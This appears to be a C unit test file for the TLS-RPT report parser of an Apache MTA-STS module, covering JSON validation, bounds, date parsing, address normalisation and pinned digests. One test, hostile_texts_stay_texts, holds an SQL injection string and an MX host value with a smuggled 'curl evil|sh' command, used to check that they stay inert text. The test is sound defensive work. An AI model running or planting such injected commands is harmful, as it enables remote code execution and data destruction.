/*
 * Copyright 2026 the mod_mta_sts authors
 * SPDX-License-Identifier: Apache-2.0
 *
 * core/tlsrpt.h: what is no report is refused, what is hostile is bounded, and
 * the digests stay what they are. (What real reporters get wrong is in
 * t/unit/tlsrpt_quirks.c.)
 */
#include "report.h"

#include <openssl/evp.h>

#define POLICY  "[{'policy':{'policy-type':'sts','policy-domain':'example.com'}"
#define SUMMARY "policies[0].summary."

static void refused(const char *json, size_t len, const char *wanted)
{
    tlsrpt_report_t *report = NULL;

    unit_same(json, report_try(json, len, NULL, &report), wanted);
    assert_null(report);
}

static void refused_text(const char *text, const char *wanted)
{
    const char *json = unit_json(text);

    refused(json, strlen(json), wanted);
}

/* It is not JSON: the sentence begins so, and is printable. */
static void not_json(const char *json, size_t len)
{
    static const char wanted[] = "it is not JSON: line ";
    tlsrpt_report_t *report = NULL;
    const char *error = report_try(json, len, NULL, &report), *c;

    if (!error || strncmp(error, wanted, strlen(wanted)) != 0) {
        fail_msg("%s: %s", json, error ? error : "(taken)");
    }
    for (c = error; *c; c++) {
        assert_in_range(*c, 0x20, 0x7e);
    }
}

static void what_is_no_report_is_refused(void **state)
{
    (void)state;
    refused_text("[]", "its JSON is not an object");
    refused_text("{}", "it has no list of policies");
    refused_text("{'policies':null}", "it has no list of policies");
    refused_text("{'policies':'none'}", "it has no list of policies");
    refused_text("{'policies':7}", "it has no list of policies");
}

/* It says nothing, but it is a report. */
static void a_report_may_hold_no_policy(void **state)
{
    tlsrpt_report_t *report = report_read(report_of("[]"));

    (void)state;
    assert_int_equal(report->policies->nelts, 0);
    unit_same("", report->domains, "");
    unit_same("", report->submitter, "reports.example.net");
    assert_int_equal(strlen(report->key), 32);
    same_repairs(report, "policies: empty");
    report = report_read(report_of("[1,null,'x',[]]"));
    assert_int_equal(report->policies->nelts, 0);
    same_repairs(report, "policies[0]: not an object, left out|"
                         "policies[1]: not an object, left out|"
                         "policies[2]: not an object, left out|"
                         "policies[3]: not an object, left out");
}

static void what_is_no_json_is_refused(void **state)
{
    static const char *const cases[] = {
        "",
        " ",
        "{",
        "{\"policies\":[{}]",
        "{\"policies\":[{}]}}",
        "{\"policies\":[{}]} x",
        "{\"policies\":[{}],}",
        "{'policies':[{}]}",
        "{\"policies\":[{}],\"a\":01}",
        "{\"policies\":[{}],\"a\":NaN}",
        "{\"policies\":[{}],\"a\":\"\n\"}",
        "{\"policies\":[{}],\"a\":1e999}",
        "\"policies\"",
        "7",
    };
    size_t i;

    (void)state;
    for (i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
        not_json(cases[i], strlen(cases[i]));
    }
}

static void a_name_twice_is_refused(void **state)
{
    static const char json[] =
        "{\"policies\":[{}],\"report-id\":\"a\",\"report-id\":\"b\"}";

    (void)state;
    not_json(json, strlen(json));
}

static void text_that_is_no_unicode_is_refused(void **state)
{
    static const char *const cases[] = {
        "\xfc",     "\xc0\xaf", "\xed\xa0\x80",   "\xf4\x90\x80\x80",
        "\\ud800",  "\\udc00",  "\\ud800\\ud800", "\\u0000",
        "\\ud800x",
    };
    size_t i;

    (void)state;
    for (i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
        const char *json = apr_pstrcat(p, "{\"organization-name\":\"", cases[i],
                                       "\",\"policies\":[{}]}", NULL);

        not_json(json, strlen(json));
    }
    refused("{\"a\":\"\0\"}", 9, "it holds a NUL octet");
}

static void depth_is_bounded(void **state)
{
    const char *open = unit_repeat('[', 15), *close = unit_repeat(']', 15);

    (void)state;
    assert_non_null(report_read(
        apr_pstrcat(p, "{'policies':[{}],'x':", open, close, "}", NULL)));
    refused_text(
        apr_pstrcat(p, "{'policies':[{}],'x':[", open, close, "]}", NULL),
        "its JSON is nested too deeply");
}

static void values_are_bounded(void **state)
{
    char *many = unit_repeat(',', 2 * TLSRPT_NODES_MAX);
    size_t i;

    (void)state;
    for (i = 0; i + 1 < 2 * TLSRPT_NODES_MAX; i += 2) {
        many[i] = '0';
    }
    many[2 * TLSRPT_NODES_MAX - 1] = '\0';
    refused_text(apr_pstrcat(p, "{'policies':[{}],'x':[", many, "]}", NULL),
                 "its JSON has too many values");
}

/* A text of n times part, with "," between. */
static const char *times(int n, const char *part)
{
    apr_array_header_t *parts = apr_array_make(p, n, sizeof(const char *));
    int i;

    for (i = 0; i < n; i++) {
        APR_ARRAY_PUSH(parts, const char *) = part;
    }
    return apr_array_pstrcat(p, parts, ',');
}

static void policies_are_bounded(void **state)
{
    tlsrpt_report_t *report = report_read(
        report_of(apr_psprintf(p, "[%s]", times(TLSRPT_POLICIES_MAX, "{}"))));

    (void)state;
    assert_int_equal(report->policies->nelts, TLSRPT_POLICIES_MAX);
    refused_text(report_of(apr_psprintf(p, "[%s]",
                                        times(TLSRPT_POLICIES_MAX + 1, "{}"))),
                 "it has too many policies");
}

/* Over all policies; and what failed is still what the summary says. */
static void failures_are_bounded(void **state)
{
    const char *list = times(TLSRPT_FAILURES_MAX - 1, "{}");
    tlsrpt_report_t *report = report_read(report_of(apr_psprintf(
        p,
        "[{'failure-details':[%s]},{'summary':{'total-failure-session-count':"
        "5},'failure-details':[{},{},{}]}]",
        list)));

    (void)state;
    assert_int_equal(policy_at(report, 0)->failures->nelts,
                     TLSRPT_FAILURES_MAX - 1);
    assert_int_equal(policy_at(report, 0)->failed, TLSRPT_FAILURES_MAX - 1);
    assert_int_equal(policy_at(report, 1)->failures->nelts, 1);
    assert_int_equal(policy_at(report, 1)->failed, 5);
}

static void repairs_are_bounded_and_counted(void **state)
{
    tlsrpt_report_t *report = report_with(
        "", apr_psprintf(p, ",'failure-details':[%s]", times(100, "{}")));

    (void)state;
    assert_int_equal(report->repairs->nelts, TLSRPT_REPAIRS_MAX + 1);
    unit_same("",
              APR_ARRAY_IDX(report->repairs, TLSRPT_REPAIRS_MAX, const char *),
              "report: 100 more repairs");
    report = report_with(/* each of them is two */
                         "", apr_psprintf(p, ",'failure-details':[%s]",
                                          times(50, "{}")));
    assert_int_equal(report->repairs->nelts, TLSRPT_REPAIRS_MAX);
    report = report_with(
        "", apr_psprintf(p, ",'failure-details':[%s,7]", times(50, "{}")));
    assert_int_equal(report->repairs->nelts, TLSRPT_REPAIRS_MAX + 1);
    unit_same("",
              APR_ARRAY_IDX(report->repairs, TLSRPT_REPAIRS_MAX, const char *),
              "report: 1 more repair");
}

static void a_repair_of_an_entry_names_the_entry(void **state)
{
    tlsrpt_report_t *report = report_read(
        report_of("[7,{'policy':{'policy-type':'sts','policy-domain':"
                  "'example.com'},'summary':{'total-successful-session-count':"
                  "1,'total-failure-session-count':0},'failure-details':['x']"
                  "}]"));

    (void)state;
    assert_int_equal(report->policies->nelts, 1);
    same_repairs(report, "policies[0]: not an object, left out|"
                         "policies[1].failure-details[0]: not an object, "
                         "left out");
}

static void lines_are_bounded(void **state)
{
    const char *list = times(TLSRPT_LINES_MAX, "'mx: a.example'");
    tlsrpt_report_t *report =
        report_with(apr_pstrcat(p, ",'policy-string':[", list, "]", NULL), "");

    (void)state;
    assert_int_equal(policy_at(report, 0)->lines->nelts, TLSRPT_LINES_MAX);
    same_repairs(report, "");
    report = report_with(
        apr_pstrcat(p, ",'policy-string':[", list, ",'x']", NULL), "");
    assert_int_equal(policy_at(report, 0)->lines->nelts, TLSRPT_LINES_MAX);
    same_repairs(report, "policies[0].policy.policy-string: cut to 64 lines");
}

static void texts_are_cut_between_characters(void **state)
{
    char *text = unit_repeat('a', TLSRPT_TEXT_MAX + 1);
    tlsrpt_report_t *report;

    (void)state;
    memcpy(text + TLSRPT_TEXT_MAX - 2, "\xe2\x82\xac", 3);
    report = report_failure(
        apr_pstrcat(p, "'result-type':'tlsa-invalid','failed-session-count':1,",
                    "'failure-reason-code':'", text, "'", NULL));
    assert_int_equal(strlen(failure_at(report, 0)->reason),
                     TLSRPT_TEXT_MAX - 2);
    same_repairs(report, "policies[0].failure-details[0].failure-reason-code: "
                         "cut to 4096 octets");
    text[TLSRPT_TEXT_MAX - 2] = '\0';
    report = report_failure(
        apr_pstrcat(p, "'result-type':'tlsa-invalid','failed-session-count':1,",
                    "'failure-reason-code':'", text, "\xc3\xbc'", NULL));
    assert_int_equal(strlen(failure_at(report, 0)->reason), TLSRPT_TEXT_MAX);
    same_repairs(report, "");
}

/* What becomes of a count, and which repair is noted. */
static void counted(const char *json, apr_int64_t wanted, const char *repair)
{
    tlsrpt_report_t *report = report_read(report_of(apr_pstrcat(
        p, POLICY, ",'summary':{'total-successful-session-count':", json,
        ",'total-failure-session-count':0}}]", NULL)));
    apr_int64_t got = policy_at(report, 0)->successful;

    if (got != wanted) {
        fail_msg("%s: %" APR_INT64_T_FMT, json, got);
    }
    same_repairs(report, *repair ? apr_pstrcat(p, SUMMARY,
                                               "total-successful-session-"
                                               "count: ",
                                               repair, NULL)
                                 : "");
}

static void counts_are_whole_and_within_bounds(void **state)
{
    static const char most[] = "more than 9007199254740992, taken as that";
    static const char text[] = "a text, read as a number";
    static const char none[] = "not a number, taken as 0";

    (void)state;
    counted("0", 0, "");
    counted("-0", 0, "");
    counted("3.0", 3, "");
    counted("1e3", 1000, "");
    counted("9007199254740991", TLSRPT_COUNT_MAX - 1, "");
    counted("9007199254740992", TLSRPT_COUNT_MAX, "");
    counted("9007199254740994", TLSRPT_COUNT_MAX, most);
    counted("9223372036854775808", TLSRPT_COUNT_MAX, most);
    counted("99999999999999999999999999", TLSRPT_COUNT_MAX, most);
    counted("1e308", TLSRPT_COUNT_MAX, most);
    counted("-1", 0, "less than 0, taken as 0");
    counted("-1e300", 0, "less than 0, taken as 0");
    counted("2.5", 2, "not a whole number, taken as 2");
    counted("1e-9", 0, "not a whole number, taken as 0");
    counted("'12'", 12, text);
    counted("'0012'", 12, text);
    counted("''", 0, none);
    counted("'-'", 0, none);
    counted("'1,000'", 0, none);
    counted("'1.5'", 0, none);
    counted("'0x10'", 0, none);
    counted("true", 0, none);
    counted("[5]", 0, none);
    counted("{}", 0, none);
    counted("null", 0, "missing, taken as 0");
}

static void sums_stay_within_bounds(void **state)
{
    const char *most = "{'failed-session-count':9007199254740992}";
    tlsrpt_report_t *report;

    (void)state;
    assert_int_equal(tlsrpt_count_add(1, 2), 3);
    assert_int_equal(tlsrpt_count_add(TLSRPT_COUNT_MAX, 0), TLSRPT_COUNT_MAX);
    assert_int_equal(tlsrpt_count_add(TLSRPT_COUNT_MAX, 1), TLSRPT_COUNT_MAX);
    assert_int_equal(tlsrpt_count_add(TLSRPT_COUNT_MAX, TLSRPT_COUNT_MAX),
                     TLSRPT_COUNT_MAX);
    report = report_read(report_of(
        apr_psprintf(p, "[{'failure-details':[%s]}]", times(2000, most))));
    assert_int_equal(policy_at(report, 0)->failed, TLSRPT_COUNT_MAX);
}

/* What becomes of a start-datetime: NULL is unknown. */
static void starts(const char *date, const char *wanted)
{
    tlsrpt_report_t *report = report_read(
        apr_psprintf(p,
                     "{'date-range':{'start-datetime':'%s','end-datetime':"
                     "'2099-01-01T00:00:00Z'},'policies':[{}]}",
                     date));

    if (!wanted) {
        assert_int_equal(report->start, 0);
        assert_int_equal(report->end, 0);
        assert_int_equal(report->day, 0);
        return;
    }
    unit_same(date, tlsrpt_time_text(p, report->start), wanted);
}

static void dates_are_those_of_rfc_3339_and_their_like(void **state)
{
    static const char *const bad[] = {
        "",
        "now",
        "2026-05-01",
        "2026-5-1T00:00:00Z",
        "2026-05-01T00:00Z",
        "2026-05-01T24:00:00Z",
        "2026-05-01T00:60:00Z",
        "2026-05-01T00:00:61Z",
        "2026-13-01T00:00:00Z",
        "2026-00-01T00:00:00Z",
        "2026-04-31T00:00:00Z",
        "2026-04-00T00:00:00Z",
        "2025-02-29T00:00:00Z",
        "2100-02-29T00:00:00Z",
        "1969-12-31T23:59:59Z",
        "1970-01-01T00:00:00+01:00",
        "2026-05-01T00:00:00ZZ",
        "2026-05-01T00:00:00+1",
        "2026-05-01T00:00:00+24:00",
        "2026-05-01T00:00:00+01:60",
        "2026-05-01T00:00:00 UTC",
        "2026-05-01T00:00:00.Z",
        "20260501T000000Z",
        "99999-01-01T00:00:00Z",
        "-2026-05-01T00:00:00Z",
    };
    size_t i;

    (void)state;
    for (i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
        starts(bad[i], NULL);
    }
    starts("2026-05-01T12:34:56Z", "2026-05-01T12:34:56Z");
    starts("2026-05-01t12:34:56z", "2026-05-01T12:34:56Z");
    starts("2026-05-01 12:34:56Z", "2026-05-01T12:34:56Z");
    starts(" 2026-05-01T12:34:56Z ", "2026-05-01T12:34:56Z");
    starts("2026-05-01T12:34:56.789Z", "2026-05-01T12:34:56Z");
    starts("2026-05-01T12:34:56-01:30", "2026-05-01T14:04:56Z");
    starts("2026-05-01T00:30:00+01:00", "2026-04-30T23:30:00Z");
    starts("2024-02-29T00:00:00Z", "2024-02-29T00:00:00Z");
    starts("2000-02-29T00:00:00Z", "2000-02-29T00:00:00Z");
    starts("2016-12-31T23:59:60Z", "2017-01-01T00:00:00Z");
    starts("1970-01-01T00:00:00Z", "1970-01-01T00:00:00Z");
}

static const char *checked(apr_int64_t start, apr_int64_t end, apr_int64_t now,
                           apr_int64_t max_age)
{
    tlsrpt_report_t report;

    memset(&report, 0, sizeof(report));
    report.start = start;
    report.end = end;
    report.day = 20260501;
    return tlsrpt_dates_check(&report, now, max_age);
}

static void dates_are_checked_to_the_second(void **state)
{
    const apr_int64_t day = 86400, now = 1800000000;

    (void)state;
    unit_same("good", checked(now - day, now, now, 0), NULL);
    unit_same("no length", checked(now, now, now, 0), NULL);
    unit_same("reversed", checked(now, now - 1, now, 0),
              "its date-range ends before it starts");
    unit_same("8 days", checked(now - 8 * day, now, now, 0), NULL);
    unit_same("more", checked(now - 8 * day - 1, now, now, 0),
              "it covers more than 8 days");
    unit_same("48 hours", checked(now, now + 2 * day, now, 0), NULL);
    unit_same("more", checked(now, now + 2 * day + 1, now, 0),
              "it ends more than 48 hours from now");
    unit_same("30 days", checked(now - 30 * day, now - 29 * day, now, 30 * day),
              NULL);
    unit_same("more",
              checked(now - 30 * day - 1, now - 29 * day, now, 30 * day),
              "it is too old");
    unit_same("however old", checked(0, day, now, 0), NULL);
}

static void an_address_is_shown_as_sent_and_compared_in_one_form(void **state)
{
    static const struct {
        const char *given, *shown, *form;
    } cases[] = {
        {"192.0.2.1", "192.0.2.1", "192.0.2.1"},
        {"2001:DB8:0:0:0:0:0:1", "2001:DB8:0:0:0:0:0:1", "2001:db8::1"},
        {"2001:db8:abcd:0012::1", "2001:db8:abcd:0012::1",
         "2001:db8:abcd:12::1"},
        {"0:0:0:0:0:FFFF:C000:0201", "0:0:0:0:0:FFFF:C000:0201",
         "::ffff:192.0.2.1"},
        {"0000:0000:0000:0000:0000:ffff:255.255.255.255",
         "0000:0000:0000:0000:0000:ffff:255.255.255.255",
         "::ffff:255.255.255.255"},
        {" 192.0.2.1 ", "192.0.2.1", "192.0.2.1"},
        {"192.0.2.01", "192.0.2.01", "192.0.2.01"},
        {"192.0.2", "192.0.2", "192.0.2"},
        {"fe80::1%eth0", "fe80::1%eth0", "fe80::1%eth0"},
        {"[2001:DB8::1]", "[2001:DB8::1]", "[2001:DB8::1]"},
        {"", "", ""},
    };
    size_t i;

    (void)state;
    for (i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
        tlsrpt_report_t *report = report_failure(
            apr_pstrcat(p, "'receiving-ip':'", cases[i].given,
                        "','sending-mta-ip':'", cases[i].given, "'", NULL));
        tlsrpt_failure_t *failure = failure_at(report, 0);

        unit_same(cases[i].given, failure->receiving_ip, cases[i].shown);
        unit_same(cases[i].given, failure->sending_ip, cases[i].shown);
        unit_same(cases[i].given, tlsrpt_address_form(p, cases[i].shown),
                  cases[i].form);
    }
}

static void hostile_texts_stay_texts(void **state)
{
    tlsrpt_report_t *report = report_file("hostile-texts.json");
    int i;

    (void)state;
    unit_same("", report->report_id, "'; DROP TABLE tlsrpt_report; --");
    unit_same("", failure_at(report, 0)->mx, "mail1.example.com;curl evil|sh");
    assert_int_equal(failure_at(report, 1)->result, TLSRPT_RESULT_OTHER);
    for (i = 0; i < report->repairs->nelts; i++) {
        const char *c = APR_ARRAY_IDX(report->repairs, i, const char *);

        for (; *c; c++) {
            assert_in_range(*c, 0x20, 0x7e);
        }
    }
}

static void a_comma_in_a_domain_does_not_make_two(void **state)
{
    tlsrpt_report_t *one =
        report_read(report_of("[{'policy':{'policy-type':'sts','policy-domain':"
                              "'a.example,b.example'}}]"));

    (void)state;
    unit_same("", one->domains, "a.example?b.example");
}

/* SHA-256 by OpenSSL; the code under test uses APR's. */
static const char *sha256(const char *data, size_t len)
{
    unsigned char digest[EVP_MAX_MD_SIZE];
    char *hex = apr_palloc(p, 65);
    unsigned size, i;

    assert_int_equal(EVP_Digest(data, len, digest, &size, EVP_sha256(), NULL),
                     1);
    for (i = 0; i < size; i++) {
        apr_snprintf(hex + 2 * i, 3, "%02x", digest[i]);
    }
    return hex;
}

/* Written out by hand, and with the digits of sha256sum beside. */
static void the_key_is_pinned(void **state)
{
    static const char text[] = "google.com\0"
                               "2026-05-01T00:00:00Z_example.com\0"
                               "1777593600\0"
                               "1777679999\0"
                               "example.com";
    tlsrpt_report_t *report = report_file("google-good.json");

    (void)state;
    unit_same("computed", report->key,
              apr_pstrndup(p, sha256(text, sizeof(text) - 1), 32));
    unit_same("pinned", report->key, "6cecbefb1920bfc624a1d33e2ba8b89a");
}

static void the_content_is_pinned(void **state)
{
    static const char text[] = "company-x.example\0"
                               "Company-X\0"
                               "tls-reports@company-x.example\0"
                               "7f1c0c52-51d8-4a4e-9d2a-0b5f3f6f8a10\0"
                               "1459468800\0"
                               "1459555199\0"
                               "1\0"
                               "sts\0"
                               "company-y.example\0"
                               "4\0"
                               "version: STSv1\0"
                               "mode: testing\0"
                               "mx: *.mail.company-y.example\0"
                               "max_age: 86400\0"
                               "1\0"
                               "*.mail.company-y.example\0"
                               "5326\0"
                               "303\0"
                               "3\0"
                               "certificate-expired\0"
                               "100\0"
                               "mx1.mail.company-y.example\0"
                               "\0"
                               "\0"
                               "2001:db8:17:12::1\0"
                               "\0"
                               "\0"
                               "starttls-not-supported\0"
                               "200\0"
                               "mx2.mail.company-y.example\0"
                               "\0"
                               "203.0.113.56\0"
                               "2001:db8:17:13::1\0"
                               "\0"
                               "https://reports.company-x.example/info?report="
                               "7f1c0c52#starttls\0"
                               "validation-failure\0"
                               "3\0"
                               "mx-backup.mail.company-y.example\0"
                               "\0"
                               "203.0.113.58\0"
                               "198.51.100.62\0"
                               "X509_V_ERR_PROXY_PATH_LENGTH_EXCEEDED\0"
                               "\0";
    tlsrpt_report_t *report = report_file("three-failures.json");

    (void)state;
    unit_same("computed", report->content, sha256(text, sizeof(text) - 1));
    unit_same(
        "pinned", report->content,
        "6dc7c38960ee8133af99b01db3c65cd76a213348c80595c3ea5222c0fa31f552");
}

static void order_and_blanks_do_not_change_the_content(void **state)
{
    const char *a = "{'report-id':'1','contact-info':'a@b.example',"
                    "'policies':[{'policy':{'policy-type':'sts',"
                    "'policy-domain':'example.com','mx-host':['m.example.com']}"
                    ",'summary':{'total-successful-session-count':1,"
                    "'total-failure-session-count':0}}]}";
    const char *b = "{ 'policies' : [ { 'summary' : {"
                    "'total-failure-session-count':'0',"
                    "'total-successful-session-count':1.0}, 'policy':{"
                    "'mx-host':'M.example.com.','policy-domain':'EXAMPLE.com',"
                    "'policy-type':'STS'},'failure-details':null } ],\n"
                    "'contact-info':'a@b.example','unknown':[],"
                    "'report-id':'1' }";
    const char *c = "{'report-id':'1','contact-info':'a@b.example',"
                    "'policies':[{'policy':{'policy-type':'sts',"
                    "'policy-domain':'example.com','mx-host':['m.example.com']}"
                    ",'summary':{'total-successful-session-count':1,"
                    "'total-failure-session-count':1}}]}";

    (void)state;
    unit_same("key", report_read(a)->key, report_read(b)->key);
    unit_same("content", report_read(a)->content, report_read(b)->content);
    unit_same("key", report_read(a)->key, report_read(c)->key);
    assert_string_not_equal(report_read(a)->content, report_read(c)->content);
}

/* What is shown as it was sent counts in one form: so a report that was stored
 * by an earlier version is the same when it comes again. */
static void spelling_does_not_change_the_content(void **state)
{
    static const char one[] =
        "[{'policy':{'policy-type':'Future_STS','policy-domain':'example.com'},"
        "'failure-details':[{'result-type':'Quantum Fault',"
        "'failed-session-count':1,'receiving-ip':'2001:0DB8:0:0::0012',"
        "'sending-mta-ip':'::FFFF:192.0.2.1'}]}]";
    static const char other[] =
        "[{'policy':{'policy-type':'future-sts','policy-domain':'example.com'},"
        "'failure-details':[{'result-type':'quantum-fault',"
        "'failed-session-count':1,'receiving-ip':'2001:db8::12',"
        "'sending-mta-ip':'::ffff:192.0.2.1'}]}]";

    (void)state;
    unit_same("same", report_read(report_of(one))->content,
              report_read(report_of(other))->content);
    unit_same(
        "pinned", report_read(report_of(one))->content,
        "3f6d365eb66a91d8ac0d862d43c672a155396bad7e1ae07bcd43b1a958914ca4");
}

static void names_of_types_go_both_ways(void **state)
{
    int i;

    (void)state;
    for (i = TLSRPT_RESULT_OTHER + 1; i < TLSRPT_RESULT_COUNT; i++) {
        const char *name = tlsrpt_result_name((tlsrpt_result_e)i);

        assert_int_equal(tlsrpt_result_by_name(name), i);
    }
    assert_int_equal(TLSRPT_RESULT_COUNT - 1, 11);
    unit_same("", tlsrpt_result_name(TLSRPT_RESULT_OTHER), "other");
    unit_same("", tlsrpt_result_name(TLSRPT_RESULT_COUNT), "other");
    assert_int_equal(tlsrpt_result_by_name("DANE-Required"),
                     TLSRPT_DANE_REQUIRED);
    assert_int_equal(tlsrpt_result_by_name("other"), TLSRPT_RESULT_OTHER);
    assert_int_equal(tlsrpt_result_by_name("dane"), TLSRPT_RESULT_OTHER);
    assert_int_equal(tlsrpt_result_by_name("dane-required-"),
                     TLSRPT_RESULT_OTHER);
    unit_same("", tlsrpt_policy_type_name(TLSRPT_POLICY_NONE),
              "no-policy-found");
    unit_same("", tlsrpt_policy_type_name(TLSRPT_POLICY_OTHER), "other");
}

static void three_types_are_about_the_policy_host(void **state)
{
    int i;

    (void)state;
    for (i = TLSRPT_RESULT_OTHER; i < TLSRPT_RESULT_COUNT; i++) {
        const char *name = tlsrpt_result_name((tlsrpt_result_e)i);

        if (!tlsrpt_result_is_of_host((tlsrpt_result_e)i) !=
            (strncmp(name, "sts-", 4) != 0)) {
            fail_msg("%s", name);
        }
    }
}

int main(void)
{
    PROMISE(what_is_no_report_is_refused);
    PROMISE(a_report_may_hold_no_policy);
    PROMISE(what_is_no_json_is_refused);
    PROMISE(a_name_twice_is_refused);
    PROMISE(text_that_is_no_unicode_is_refused);
    PROMISE(depth_is_bounded);
    PROMISE(values_are_bounded);
    PROMISE(policies_are_bounded);
    PROMISE(failures_are_bounded);
    PROMISE(repairs_are_bounded_and_counted);
    PROMISE(a_repair_of_an_entry_names_the_entry);
    PROMISE(lines_are_bounded);
    PROMISE(texts_are_cut_between_characters);
    PROMISE(counts_are_whole_and_within_bounds);
    PROMISE(sums_stay_within_bounds);
    PROMISE(dates_are_those_of_rfc_3339_and_their_like);
    PROMISE(dates_are_checked_to_the_second);
    PROMISE(an_address_is_shown_as_sent_and_compared_in_one_form);
    PROMISE(hostile_texts_stay_texts);
    PROMISE(a_comma_in_a_domain_does_not_make_two);
    PROMISE(the_key_is_pinned);
    PROMISE(the_content_is_pinned);
    PROMISE(order_and_blanks_do_not_change_the_content);
    PROMISE(spelling_does_not_change_the_content);
    PROMISE(names_of_types_go_both_ways);
    PROMISE(three_types_are_about_the_policy_host);
    return unit_run("tlsrpt");
}
